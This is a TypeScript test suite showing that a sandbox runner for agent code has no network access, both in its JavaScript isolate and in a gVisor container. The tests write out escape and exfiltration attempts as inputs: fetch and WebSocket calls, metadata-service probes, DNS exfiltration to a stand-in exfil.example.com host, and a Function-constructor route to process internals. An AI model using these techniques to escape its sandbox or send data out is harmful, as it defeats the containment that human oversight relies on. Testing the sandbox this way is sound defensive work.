/**
 * Escape suite, network. Proves that agent code reaches no network at all:
 * - isolate layer: a snippet has no network API (fetch, WebSocket, XMLHttpRequest, EventSource, navigator,
 *   require, process, module imports, WASI imports); each attempt fails with the reason asserted, and host
 *   listeners on 127.0.0.1 and ::1 see no connection;
 * - container wall: node running inside the runner's gVisor container (`--network=none`) cannot reach the
 *   host's loopback (v4/v6), link-local metadata, public IPv4/IPv6, or any DNS server; it has only a
 *   loopback interface of its own and no capability for raw sockets.
 * Traffic goes only to loopback or nowhere: the "public" targets are documentation ranges (203.0.113.0/24,
 * 2001:db8::/32) and the container has no route anyway.
 */
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import type { SandboxRunnerHandle } from "../../src/index.ts";
import {
  assertFailed,
  assertRefused,
  CONTAINER_SKIP,
  ESCAPE_MODE,
  exec,
  probe,
  probeTemplate,
  removeBundleTemplate,
  returned,
  startEscapeRunner,
  succeeded,
  tcpListener,
  udpListener,
} from "./harness.ts";

/** Documentation-range stand-ins for public addresses (never routed to anyone). */
const PUBLIC_V4 = "203.0.113.7";
const PUBLIC_V6 = "2001:db8::7";
const METADATA = "169.254.169.254";
/** What an exfiltrating snippet would encode into a DNS name. */
const EXFIL_HOST = "c2VjcmV0LXRva2Vu.exfil.example.com";

/** Globals a snippet may see: ECMAScript built-ins plus what the runner's prelude grants. */
const ALLOWED_GLOBALS = new Set([
  ...[
    "AggregateError",
    "Array",
    "ArrayBuffer",
    "Atomics",
    "BigInt",
    "BigInt64Array",
    "BigUint64Array",
    "Boolean",
    "DataView",
    "Date",
    "Error",
    "EvalError",
    "FinalizationRegistry",
    "Float32Array",
    "Float64Array",
    "Function",
    "Infinity",
    "Int16Array",
    "Int32Array",
    "Int8Array",
    "Intl",
    "Iterator",
    "JSON",
    "Map",
    "Math",
    "NaN",
    "Number",
    "Object",
    "Promise",
    "Proxy",
    "RangeError",
    "ReferenceError",
    "Reflect",
    "RegExp",
    "Set",
    "SharedArrayBuffer",
    "String",
    "Symbol",
    "SyntaxError",
    "TypeError",
    "URIError",
    "Uint16Array",
    "Uint32Array",
    "Uint8Array",
    "Uint8ClampedArray",
    "WeakMap",
    "WeakRef",
    "WeakSet",
    "WebAssembly",
    "decodeURI",
    "decodeURIComponent",
    "encodeURI",
    "encodeURIComponent",
    "escape",
    "eval",
    "globalThis",
    "isFinite",
    "isNaN",
    "parseFloat",
    "parseInt",
    "undefined",
    "unescape",
  ],
  // granted by the runner's prelude
  "console",
  "queueMicrotask",
]);

describe(`network escapes, isolate layer (runner sandbox: ${ESCAPE_MODE})`, () => {
  let runner: SandboxRunnerHandle;
  let v4: Awaited<ReturnType<typeof tcpListener>>;
  let v6: Awaited<ReturnType<typeof tcpListener>>;
  before(async () => {
    runner = await startEscapeRunner();
    v4 = await tcpListener("127.0.0.1");
    v6 = await tcpListener("::1");
  });
  after(async () => {
    await runner.close();
    await v4.close();
    await v6.close();
  });

  test("fetch to a port the host listens on at 127.0.0.1: ReferenceError, the listener sees nothing", async () => {
    const r = await exec(runner, `export default async () => fetch("http://127.0.0.1:${v4.port}/")`);
    assertFailed(r, "ReferenceError", /^fetch is not defined$/);
    assert.equal(v4.connections(), 0);
  });

  test("WebSocket to the host's ::1 listener: ReferenceError, the listener sees nothing", async () => {
    const r = await exec(runner, `export default async () => new WebSocket("ws://[::1]:${v6.port}/")`);
    assertFailed(r, "ReferenceError", /^WebSocket is not defined$/);
    assert.equal(v6.connections(), 0);
  });

  test("XMLHttpRequest to the link-local metadata address: ReferenceError", async () => {
    const r = await exec(
      runner,
      `export default async () => { const x = new XMLHttpRequest(); x.open("GET", "http://${METADATA}/latest/meta-data/"); x.send(); }`,
    );
    assertFailed(r, "ReferenceError", /^XMLHttpRequest is not defined$/);
  });

  test("navigator.sendBeacon to a public IPv4 address: ReferenceError", async () => {
    const r = await exec(
      runner,
      `export default async () => navigator.sendBeacon("http://${PUBLIC_V4}/collect", "data")`,
    );
    assertFailed(r, "ReferenceError", /^navigator is not defined$/);
  });

  test("EventSource to a public IPv6 address: ReferenceError", async () => {
    const r = await exec(
      runner,
      `export default async () => new EventSource("http://[${PUBLIC_V6}]/events")`,
    );
    assertFailed(r, "ReferenceError", /^EventSource is not defined$/);
  });

  test("require('node:dns').lookup('<data>.example.com') for DNS exfiltration: ReferenceError", async () => {
    const r = await exec(
      runner,
      `export default async () => require("node:dns").lookup("${EXFIL_HOST}", () => {})`,
    );
    assertFailed(r, "ReferenceError", /^require is not defined$/);
  });

  test("a static import of node:net is refused before the snippet runs (ImportError)", async () => {
    const r = await exec(
      runner,
      `import { connect } from "node:net";\nexport default async () => connect(${v4.port}, "127.0.0.1")`,
    );
    assertFailed(r, "ImportError", /imports are not available in the sandbox \(found "node:net"\)/);
    assert.equal(v4.connections(), 0);
  });

  test("a static import from https://<data>.example.com (exfiltration by module URL) is refused (ImportError)", async () => {
    const r = await exec(runner, `import x from "https://${EXFIL_HOST}/x.js";\nexport default async () => x`);
    assertFailed(r, "ImportError", new RegExp(`found "https://${EXFIL_HOST.replaceAll(".", "\\.")}/x\\.js"`));
  });

  test("a dynamic import('node:net') is refused by the isolate (Error: Not supported)", async () => {
    const r = await exec(
      runner,
      `export default async () => (await import("node:net")).connect(${v4.port}, "127.0.0.1")`,
    );
    assertFailed(r, "Error", /^Not supported$/);
    assert.equal(v4.connections(), 0);
  });

  test("the Function constructor does not reach Node's process.binding('tcp_wrap'): ReferenceError", async () => {
    const r = await exec(
      runner,
      `export default async () => ({}).constructor.constructor("return process")().binding("tcp_wrap")`,
    );
    assertFailed(r, "ReferenceError", /^process is not defined$/);
  });

  test("a WebAssembly module importing a WASI socket call gets no host import (TypeError)", async () => {
    // (module (import "wasi_snapshot_preview1" "sock_open" (func)))
    const r = await exec(
      runner,
      `export default async () => {
        const name = (s: string) => [s.length, ...Array.from(s, (c) => c.charCodeAt(0))];
        const imports = [1, ...name("wasi_snapshot_preview1"), ...name("sock_open"), 0, 0];
        const bytes = new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, 1, 4, 1, 0x60, 0, 0, 2, imports.length, ...imports]);
        new WebAssembly.Instance(new WebAssembly.Module(bytes), {});
      }`,
    );
    assertFailed(
      r,
      "TypeError",
      /WebAssembly\.Instance\(\): Import #0 module="wasi_snapshot_preview1" error: module is not an object or function/,
    );
  });

  test("the global object offers no I/O API: only ECMAScript built-ins, console and queueMicrotask", async () => {
    const r = await exec(runner, `export default async () => Reflect.ownKeys(globalThis).map(String)`);
    const extra = returned<string[]>(r).filter((name) => !ALLOWED_GLOBALS.has(name));
    assert.deepEqual(extra, [], `globals beyond the allowed set: ${extra.join(", ")}`);
  });
});

describe("network escapes, container wall (node inside the runner's gVisor container)", {
  skip: CONTAINER_SKIP,
}, () => {
  let template: Awaited<ReturnType<typeof probeTemplate>>;
  before(async () => {
    template = await probeTemplate();
  });
  after(async () => {
    await removeBundleTemplate(template);
  });

  /** Probe body: `attempt(name, () => tcp(host, port))` resolves "CONNECTED" or throws the socket error. */
  const TCP = `
    const net = require("net");
    const tcp = (host, port) => new Promise((resolve, reject) => {
      const s = net.connect({ host, port });
      const t = setTimeout(() => { s.destroy(); reject(Object.assign(new Error("no answer in 3 s"), { code: "TIMEOUT" })); }, 3000);
      s.on("connect", () => { clearTimeout(t); s.destroy(); resolve("CONNECTED"); });
      s.on("error", (e) => { clearTimeout(t); reject(e); });
    });`;

  test("TCP to the port the host listens on at 127.0.0.1: ECONNREFUSED (own loopback), the host listener sees nothing", async () => {
    const listener = await tcpListener("127.0.0.1");
    try {
      const seen = await probe(
        template,
        `${TCP} await attempt("v4", () => tcp("127.0.0.1", ${listener.port}));`,
      );
      assertRefused(seen.v4, ["ECONNREFUSED"]);
      assert.equal(listener.connections(), 0, "the host listener saw a connection from the container");
    } finally {
      await listener.close();
    }
  });

  test("TCP to the port the host listens on at ::1: ECONNREFUSED, the host listener sees nothing", async () => {
    const listener = await tcpListener("::1");
    try {
      const seen = await probe(template, `${TCP} await attempt("v6", () => tcp("::1", ${listener.port}));`);
      assertRefused(seen.v6, ["ECONNREFUSED"]);
      assert.equal(listener.connections(), 0, "the host listener saw a connection from the container");
    } finally {
      await listener.close();
    }
  });

  test("TCP to the link-local metadata service 169.254.169.254: no route", async () => {
    const seen = await probe(template, `${TCP} await attempt("meta", () => tcp("${METADATA}", 80));`);
    assertRefused(seen.meta, ["EHOSTUNREACH", "ENETUNREACH"]);
  });

  test("TCP to a public IPv4 address: no route", async () => {
    const seen = await probe(template, `${TCP} await attempt("pub", () => tcp("${PUBLIC_V4}", 443));`);
    assertRefused(seen.pub, ["EHOSTUNREACH", "ENETUNREACH"]);
  });

  test("TCP to a public IPv6 address: no route", async () => {
    const seen = await probe(template, `${TCP} await attempt("pub6", () => tcp("${PUBLIC_V6}", 443));`);
    assertRefused(seen.pub6, ["EHOSTUNREACH", "ENETUNREACH"]);
  });

  test("UDP datagram to a public IPv4 address: no route", async () => {
    const seen = await probe(
      template,
      `const dgram = require("dgram");
       await attempt("udp", () => new Promise((resolve, reject) => {
         const s = dgram.createSocket("udp4");
         s.send(Buffer.from("leak"), 53, "${PUBLIC_V4}", (e) => { s.close(); e ? reject(e) : resolve("SENT"); });
       }));`,
    );
    assertRefused(seen.udp, ["EHOSTUNREACH", "ENETUNREACH"]);
  });

  test("getaddrinfo of <data>.example.com (DNS exfiltration): EAI_AGAIN, no resolver reachable", async () => {
    const seen = await probe(
      template,
      `await attempt("lookup", () => new Promise((resolve, reject) =>
         require("dns").lookup("${EXFIL_HOST}", (e, a) => (e ? reject(e) : resolve(a)))));`,
    );
    assertRefused(seen.lookup, ["EAI_AGAIN", "ENOTFOUND"]);
  });

  test("a DNS query for <data>.example.com sent to a resolver on the host's 127.0.0.1 never arrives", async () => {
    const dnsServer = await udpListener();
    try {
      const seen = await probe(
        template,
        `const { Resolver } = require("dns").promises;
         const r = new Resolver({ timeout: 500, tries: 1 });
         r.setServers(["127.0.0.1:${dnsServer.port}"]);
         await attempt("query", () => r.resolve4("${EXFIL_HOST}"));`,
      );
      assertRefused(seen.query, ["ECONNREFUSED", "ETIMEOUT"]);
      assert.deepEqual(dnsServer.datagrams(), [], "the host's UDP listener received a DNS query");
    } finally {
      await dnsServer.close();
    }
  });

  test("a raw socket is impossible: no capabilities at all (CAP_NET_RAW absent), no ping binary", async () => {
    const seen = await probe(
      template,
      `const fs = require("fs");
       await attempt("caps", () => fs.readFileSync("/proc/self/status", "utf8").split("\\n").filter((l) => /^Cap(Inh|Prm|Eff|Bnd|Amb)/.test(l)));
       await attempt("ping", () => require("child_process").execFileSync("ping", ["-c", "1", "${PUBLIC_V4}"], { env: { PATH: "/bin:/usr/bin:/sbin:/usr/sbin" } }).toString());`,
    );
    const caps = succeeded<string[]>(seen.caps);
    assert.ok(caps.length >= 3, `capability lines: ${caps.join(" | ")}`);
    for (const line of caps) assert.match(line, /:\s+0{16}$/, `a capability set is not empty: ${line}`);
    assertRefused(seen.ping, ["ENOENT"]);
  });

  test("the container has only its own loopback interface and none of the host's sockets", async () => {
    const listener = await tcpListener("127.0.0.1");
    try {
      const seen = await probe(
        template,
        `await attempt("ifaces", () => Object.keys(require("os").networkInterfaces()));
         await attempt("tcp", () => require("fs").readFileSync("/proc/net/tcp", "utf8"));`,
      );
      assert.deepEqual(seen.ifaces?.value, ["lo"]);
      const hexPort = `:${listener.port.toString(16).toUpperCase().padStart(4, "0")} `;
      assert.ok(
        !String(seen.tcp?.value).includes(hexPort),
        "the host's listening socket is visible in the container's /proc/net/tcp",
      );
    } finally {
      await listener.close();
    }
  });
});
